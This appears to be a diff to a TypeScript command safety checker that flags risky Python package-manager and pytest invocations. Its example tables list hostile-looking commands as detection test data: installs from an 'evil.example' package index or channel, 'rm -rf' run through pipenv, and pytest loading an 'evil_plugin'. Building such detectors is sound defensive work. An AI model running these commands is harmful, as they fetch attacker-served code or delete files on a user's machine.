@@ -2,32 +2,20 @@
  * Python tooling: pip, pipx, uv, poetry, pipenv, pdm, rye, pixi, conda/mamba, hatch, pytest. `run`/`exec` subcommands run a program.
  * Rules: rule.ts; lookup: index.ts.
  */
-import { exec, risk, write, type Effect } from '../effects.js';
-import { scanOptions, type Arg } from '../options.js';
-import { argvOf, isLong, isShort, opaque, valueOf, subcommandRunner, HELP, RUN_TOOL, also, wordOptions } from './kit.js';
-import { optionTable, readOptions, subcommandOptions, type OptionTable, type TableSpec } from './optionTable.js';
+import { exec, risk } from '../effects.js';
+import { argvOf, opaque, subcommandRunner, HELP, RUN_TOOL, also, commandTable } from './kit.js';
+import { CONDA, HATCH, MICROMAMBA, PDM, PIPENV, PIPX, PIXI, POETRY, RYE, type ToolTable } from './python/toolTables.js';
+import { optionTable, readItems, readOptions, subcommandOptions, type OptionHandler, type OptionTable } from './optionTable.js';
+import { remoteCode } from './noSpec.js';
 import { PIP_COMMANDS, PIP_GENERAL } from './python/pipOptions.js';
+import { PYTEST } from './python/pytestOptions.js';
+import { UV_GLOBAL, UV_INSTALLER, UV_TOOL_RUN } from './python/uvOptions.js';
+
+const UVX = optionTable({ options: [UV_TOOL_RUN, UV_INSTALLER, UV_GLOBAL], stopAtOperand: true });
 import { rules, type Check, type SubcommandSpec, type ProgramRule, type Examples } from './rule.js';
 
-/** pytest --basetemp deletes that folder first; report options write files they name. */
-function pytest(argv: readonly Arg[]): Effect[] {
-  const out: Effect[] = [];
-  const reports = ['junitxml', 'junit-xml', 'result-log', 'resultlog', 'report-log', 'html', 'json-report-file', 'debug'];
-  for (const it of scanOptions(argv, 1, {
-    shortValue: 'kmpcorW',
-    longValue: ['basetemp', 'rootdir', 'confcutdir', ...reports.filter((r) => r !== 'debug')],
-    longOptional: ['debug'],
-    noAbbrev: false,
-  })) {
-    if (isLong(it, ['basetemp'])) out.push(write('basetemp', valueOf(it), 'pytest --basetemp deletes and recreates the folder it names'));
-    // `-p name` imports a plugin module before the run (`-p no:name` only turns one off).
-    if (isShort(it, 'p') && !/^no:/.test(valueOf(it) ?? ''))
-      out.push(exec('p', opaque(valueOf(it)), 'pytest -p loads the plugin module it names'));
-    if (isLong(it, reports, ['durations', 'durations-min']))
-      out.push(write(it.kind === 'long' ? it.name : 'report', valueOf(it), 'pytest writes a report file it names'));
-  }
-  return out;
-}
+/** pytest (and py.test): every option read with its table (python/pytestOptions.ts). */
+const pytest: Check = (argv) => readOptions(PYTEST, argv, 1, String(argv[0])).effects;
 
 /**
  * pip config settings a `pip config set` may write and stay one plain call: display only. Any other
@@ -36,16 +24,28 @@ function pytest(argv: readonly Arg[]): Effect[] {
 const PIP_DISPLAY_CONFIG =
   /^[a-z]+\.(progress[-_]bar|no[-_]color|disable[-_]pip[-_]version[-_]check|quiet|verbose|no[-_]python[-_]version[-_]warning)$/;
 
-function pipTable(own: string, subs?: TableSpec['subs']): TableSpec {
-  const spec: TableSpec = { options: [own, PIP_GENERAL], abbrev: true };
-  if (subs) spec.subs = subs;
-  return spec;
+/**
+ * An index or find-links page by URL elsewhere than this machine: pip installs (and builds, running
+ * its setup code) what that server serves instead of PyPI's package of the same name.
+ */
+const index: OptionHandler = (value, typed, at) => {
+  const remote = value === undefined ? undefined : value === null ? '?' : remoteCode(value);
+  return remote === undefined
+    ? []
+    : [exec('index', opaque(value ?? null), `${at.where} ${typed} installs packages from the server it names`)];
+};
+const INDEX_OPTIONS = ['index-url', 'extra-index-url', 'find-links', 'pypi-url', 'index'];
+
+function pipTable(own: string): OptionTable {
+  const t = optionTable({ options: [own, PIP_GENERAL], abbrev: true });
+  const present = INDEX_OPTIONS.filter((o) => t.long.has(o));
+  return present.length === 0 ? t : optionTable({ ...t.spec, handlers: Object.fromEntries(present.map((o) => [o, index])) });
 }
 const PIP_TABLES: Readonly<Record<string, OptionTable>> = Object.fromEntries(
-  Object.entries(PIP_COMMANDS).map(([k, v]) => [k, optionTable(pipTable(v))]),
+  Object.entries(PIP_COMMANDS).map(([k, v]) => [k, pipTable(v)]),
 );
 
-const PIP_GENERAL_TABLE = optionTable(pipTable(''));
+const PIP_GENERAL_TABLE = pipTable('');
 const pipOptions = subcommandOptions('pip', { tables: PIP_TABLES });
 
 /** pip: each command's options against its optparse table; `pip config set|edit|unset` changes what later pip runs. */
@@ -64,8 +64,45 @@ const PIP: Check = (argv, sub) => {
   return [...out, risk('config', `pip config ${verb ?? '?'} changes configuration pip reads on every later run`, key ?? null)];
 };
 
-/** `conda run` (and mamba's, micromamba's): the spec library's options (figTables.ts). */
-const CONDA_RUN = 'n|name= p|prefix= v|verbose dev debug-wrapper-scripts cwd= no-capture-output live-stream';
+/** A tool read whole with its table (python/toolTables.ts). */
+function tool(t: ToolTable): Check {
+  const read = commandTable(t.global, t.commands, t.runs, t.fallback);
+  return (argv, sub, program) => {
+    const out = read(argv, sub, program);
+    // `pipenv shell`, `hatch shell`, `pixi shell`: an interactive shell, whatever follows.
+    if (sub.subcommand !== undefined && t.shells?.includes(sub.subcommand) && !out.some((e) => e.flag === 'unknown_option'))
+      out.push(exec('shell', opaque(), `${String(argv[0])} ${sub.subcommand} starts a shell`));
+    return out;
+  };
+}
+
+/** What a `config` command was given: its subcommand path, operand count and options (by name). */
+interface ConfigArgs {
+  sub: string;
+  operands: number;
+  has: (option: string) => boolean;
+}
+
+/**
+ * A tool's `config` command that changes settings later runs read (an index, a venv path, a
+ * channel): keyed as configuration; reading settings stays plain. The words are read loosely (the
+ * table has already refused an option it does not know).
+ */
+function configChange(command: string, changes: (a: ConfigArgs) => boolean): Check {
+  return (argv) => {
+    const i = argv.indexOf(command);
+    if (i < 1 || argv.slice(1, i).some((w) => w === null || !w.startsWith('-'))) return [];
+    const rest = argv.slice(i + 1);
+    const words = rest.filter((w): w is string => w !== null && !w.startsWith('-'));
+    const opts = rest.filter((w): w is string => w !== null && w.startsWith('-')).map((w) => w.replace(/^-+/, '').split('=')[0]!);
+    const a: ConfigArgs = { sub: [command, ...words].join(' '), operands: words.length, has: (o) => opts.includes(o) };
+    return rest.includes(null) || changes(a) ? [risk('config', `${String(argv[0])} ${command} changes settings later runs read`)] : [];
+  };
+}
+
+/** conda config's options that write a setting (the others show them). */
+const CONDA_CONFIG_CHANGES = (a: ConfigArgs): boolean =>
+  ['set', 'add', 'append', 'prepend', 'remove', 'remove-key', 'write-default', 'stdin'].some((o) => a.has(o));
 
 const effects: Readonly<Record<string, Check>> = {
   // uv run: the spec library's options (figTables.ts) and uv's global ones (`uv run --help`).
@@ -77,29 +114,38 @@ const effects: Readonly<Record<string, Check>> = {
       'no-index U|upgrade P|upgrade-package= reinstall offline n|no-cache cache-dir= q|quiet v|verbose color= ' +
       'config-file= no-config native-tls preview from= active exact inexact gui-script',
   ),
-  uvx: (argv) => [exec('run', argvOf(argv.slice(1)), 'uvx runs a tool')],
-  poetry: subcommandRunner(['run'], 'v|verbose q|quiet n|no-interaction no-plugins no-cache directory= P|project= ansi no-ansi'),
-  pipenv: subcommandRunner(['run']),
-  pdm: subcommandRunner(['run']),
-  pipx: subcommandRunner(['run']),
-  rye: subcommandRunner(['run']),
-  pixi: subcommandRunner(['run', 'exec']),
-  micromamba: subcommandRunner(['run'], CONDA_RUN),
-  hatch: subcommandRunner(['run']),
-  conda: subcommandRunner(['run'], CONDA_RUN),
-  mamba: subcommandRunner(['run'], CONDA_RUN),
-  pytest: also(
-    pytest,
-    wordOptions(
-      'pytest',
-      [
-        ['--log-file', 'write'],
-        ['--resultlog', 'write'],
-        ['--report-log', 'write'],
-      ],
-      true,
+  // uvx is `uv tool run`: its options, then the tool and the tool's own words.
+  uvx: (argv) => {
+    const r = readItems(UVX, argv, 1, 'uvx');
+    if (r.unknown || r.rest === undefined) return r.effects; // `uvx --version`: nothing runs
+    return [...r.effects, exec('run', argvOf(argv.slice(r.rest)), 'uvx runs a tool')];
+  },
+  poetry: also(
+    tool(POETRY),
+    configChange('config', (a) => a.operands >= 2 || a.has('unset') || a.has('migrate')),
+  ),
+  pipenv: tool(PIPENV),
+  pdm: also(
+    tool(PDM),
+    configChange('config', (a) => a.operands >= 2 || a.has('delete') || a.has('edit')),
+  ),
+  pipx: tool(PIPX),
+  rye: tool(RYE),
+  pixi: tool(PIXI),
+  micromamba: also(
+    tool(MICROMAMBA),
+    configChange(
+      'config',
+      (a) => !a.sub.startsWith('config list') && !a.sub.startsWith('config get') && !a.sub.startsWith('config describe'),
     ),
   ),
+  hatch: also(
+    tool(HATCH),
+    configChange('config', (a) => a.sub.startsWith('config set') || a.sub.startsWith('config restore')),
+  ),
+  conda: also(tool(CONDA), configChange('config', CONDA_CONFIG_CHANGES)),
+  mamba: also(tool(CONDA), configChange('config', CONDA_CONFIG_CHANGES)),
+  pytest,
   pip: PIP,
   pip3: PIP,
   'py.test': pytest,
@@ -189,8 +235,162 @@ const subcommands: Readonly<Record<string, SubcommandSpec>> = {
 };
 
 /** What these rules catch (match: compound, key holding the fragment) and let through (notMatch: simple). */
+const PYTEST_EXAMPLES: Examples = {
+  match: [
+    ['pytest -p evil_plugin', '#p'],
+    ['pytest -pevil_plugin tests/', '#p'],
+    ['pytest --basetemp=/tmp/x', '#basetemp'],
+    ['pytest --junitxml /tmp/r.xml', '#junitxml'],
+    ['pytest -c ../other/pytest.ini', '#config_file'],
+    ['pytest --config-file=/tmp/p.ini', '#config_file'],
+    ['pytest --rootdir=/tmp/x', '#rootdir'],
+    ['pytest --confcutdir /', '#confcutdir'],
+    ['pytest -o pythonpath=/tmp/evil', '#override_ini'],
+    ['pytest --pdbcls=evil:Pdb', '#pdbcls'],
+    ['pytest --tx popen//python=/tmp/py', '#tx'],
+    ['pytest ../other/tests', '#outside'],
+    ['pytest @/tmp/args.txt', '#outside'],
+    ['pytest --frobnicate', '#unknown_option'],
+    // argparse with allow_abbrev=False: a prefix is no option of pytest's, so unknown here.
+    ['pytest --basete=/tmp/x', '#unknown_option'],
+  ],
+  notMatch: [
+    'pytest',
+    'pytest -q',
+    'pytest -x --maxfail=1',
+    'pytest -k "parse and not slow" -v',
+    'pytest --cov=src --cov-report=term-missing',
+    'pytest -n auto',
+    'pytest -p no:cacheprovider',
+    'pytest tests/test_models.py::test_save -vv',
+    'pytest -c pytest.ini',
+    'pytest -o log_cli=true',
+  ],
+};
+
 const EXAMPLES: Readonly<Record<string, Examples>> = {
-  pipenv: { match: [['pipenv run rm -rf x', '#run-[-rm-]']] },
+  pytest: PYTEST_EXAMPLES,
+  'py.test': {
+    match: [
+      ['py.test -p evil_plugin', '#p'],
+      ['py.test --basetemp /tmp/x', '#basetemp'],
+    ],
+    notMatch: ['py.test -q', 'py.test tests/ -x'],
+  },
+  uvx: {
+    match: [
+      ['uvx ruff check', '#run-[-ruff-'],
+      ['uvx --from git+https://example.com/x.git tool', '#remote'],
+      ['uvx --with ../evil ruff', '#outside'],
+      ['uvx --frob ruff', '#unknown_option'],
+    ],
+    notMatch: ['uvx --version', 'uvx --help'],
+  },
+  pip3: {
+    match: [
+      ['pip3 install --target /tmp/x requests', '#target'],
+      ['pip3 install -t/tmp/x requests', '#target'],
+      ['pip3 install ../other', '#outside'],
+      ['pip3 install --frob x', '#unknown_option'],
+    ],
+    notMatch: ['pip3 install numpy', 'pip3 install -r requirements.txt', 'pip3 list'],
+  },
+  pipenv: {
+    match: [
+      ['pipenv run rm -rf x', '#run-[-rm-]'],
+      ['pipenv --python /tmp/py install', '#outside'],
+      ['pipenv install --frob', '#unknown_option'],
+      ['pipenv shell', '#shell'],
+    ],
+    notMatch: ['pipenv install --dev', 'pipenv lock', 'pipenv graph'],
+  },
+  poetry: {
+    match: [
+      ['poetry run rm x', '#run-[-rm-]'],
+      ['poetry -C ../other install', '#outside'],
+      ['poetry --directory=/tmp/x install', '#outside'],
+      ['poetry config virtualenvs.path /tmp/v', '#config'],
+      ['poetry install --frob', '#unknown_option'],
+      ['poetry build -o /tmp/dist', '#output'],
+    ],
+    notMatch: ['poetry install', 'poetry add requests', 'poetry install --no-root -E lxml', 'poetry show --tree', 'poetry config --list'],
+  },
+  pdm: {
+    match: [
+      ['pdm run rm x', '#run-[-rm-]'],
+      ['pdm init https://example.com/template.git', '#init'],
+      ['pdm -c /tmp/pdm.toml install', '#outside'],
+      ['pdm install --frob', '#unknown_option'],
+      ['pdm config pypi.url http://evil.example', '#config'],
+      ['pdm build -d /tmp/dist', '#dest'],
+    ],
+    notMatch: ['pdm install --quiet', 'pdm list', 'pdm sync -G grpc,io,testing --quiet', 'pdm test', 'pdm config'],
+  },
+  pipx: {
+    match: [
+      ['pipx run black .', '#run-[-black-'],
+      ['pipx install git+https://example.com/x.git', '#remote'],
+      ['pipx install ../evil', '#outside'],
+      ['pipx install --frob x', '#unknown_option'],
+      ['pipx runpip black install x', '#runpip'],
+    ],
+    notMatch: ['pipx install ruff', 'pipx list', 'pipx upgrade-all'],
+  },
+  rye: {
+    match: [
+      ['rye run rm x', '#run-[-rm-]'],
+      ['rye add x --path ../evil', '#outside'],
+      ['rye sync --frob', '#unknown_option'],
+    ],
+    notMatch: ['rye sync', 'rye add requests', 'rye list'],
+  },
+  pixi: {
+    match: [
+      ['pixi run rm x', '#run-[-rm-]'],
+      ['pixi exec ruff', '#exec-[-ruff-]'],
+      ['pixi task add evil "rm -rf x"', '#task_add'],
+      ['pixi install --manifest-path /tmp/pixi.toml', '#outside'],
+      ['pixi add --frob numpy', '#unknown_option'],
+    ],
+    notMatch: ['pixi add numpy', 'pixi install', 'pixi list'],
+  },
+  hatch: {
+    match: [
+      ['hatch run rm x', '#run-[-rm-]'],
+      ['hatch env run -- rm x', '#run-[-rm-]'],
+      ['hatch shell', '#shell'],
+      ['hatch config set dirs.env.virtual /tmp/v', '#config'],
+      ['hatch build --frob', '#unknown_option'],
+    ],
+    notMatch: ['hatch build', 'hatch version', 'hatch env show'],
+  },
+  conda: {
+    match: [
+      ['conda run -n env rm x', '#run-[-rm-]'],
+      ['conda config --add channels http://evil.example', '#config'],
+      ['conda install -p /tmp/env numpy', '#outside'],
+      ['conda env create -f ../other/environment.yml', '#outside'],
+      ['conda install --frob numpy', '#unknown_option'],
+    ],
+    notMatch: ['conda create -n env python=3.11 -y', 'conda env create -f environment.yml', 'conda list', 'conda config --show'],
+  },
+  mamba: {
+    match: [
+      ['mamba run -n env rm x', '#run-[-rm-]'],
+      ['mamba install --frob numpy', '#unknown_option'],
+      ['mamba config --set channel_priority strict', '#config'],
+    ],
+    notMatch: ['mamba install -c conda-forge numpy', 'mamba env list'],
+  },
+  micromamba: {
+    match: [
+      ['micromamba run -n env rm x', '#run-[-rm-]'],
+      ['micromamba create -f /tmp/env.yml', '#outside'],
+      ['micromamba config set channel_priority strict', '#config'],
+      ['micromamba install --frob numpy', '#unknown_option'],
+    ],
+    notMatch: ['micromamba install -y -n env numpy', 'micromamba env list', 'micromamba config list'],
+  },
   uv: { match: [['uv run rm x', '#run-[-rm-]']] },
   pip: {
     match: [
@@ -199,6 +399,12 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
       ['pip --python /tmp/py install x', '#python'],
       ['pip config set global.index-url https://example.com', '#config'],
       ['pip install --frobnicate x', '#unknown_option'],
+      ['pip install -r ../other/req.txt', '#outside'],
+      ['pip install --index-url=http://evil.example/simple x', '#index'],
+      ['pip install -ihttps://evil.example/simple x', '#index'],
+      ['pip install --extra-index-url https://evil.example/simple x', '#index'],
+      ['pip install -e git+https://example.com/x.git#egg=x', '#remote'],
+      ['pip install --tar /tmp/x y', '#target'],
     ],
     notMatch: [
       'pip install -r req.txt',
@@ -210,8 +416,34 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
   },
 };
 
+/** Read whole with their tables, the default's checks on top (paths outside the project, `git+` code). */
+const WITH_DEFAULTS = [
+  'pytest',
+  'py.test',
+  'pip',
+  'pip3',
+  'uvx',
+  'poetry',
+  'pipenv',
+  'pdm',
+  'pipx',
+  'rye',
+  'pixi',
+  'micromamba',
+  'hatch',
+  'conda',
+  'mamba',
+];
+
 export const RULES: readonly ProgramRule[] = rules(
   'python',
-  { effects, subcommands: { ...subcommands, pip3: subcommands['pip']! } },
+  {
+    effects,
+    subcommands: { ...subcommands, pip3: subcommands['pip']! },
+    // Read whole with their tables; their operands and option values are paths and package
+    // specifiers, so the default's checks (a path outside the project, `git+` code) apply on top.
+    allowlist: [...WITH_DEFAULTS],
+    withDefaults: [...WITH_DEFAULTS],
+  },
   EXAMPLES,
 );
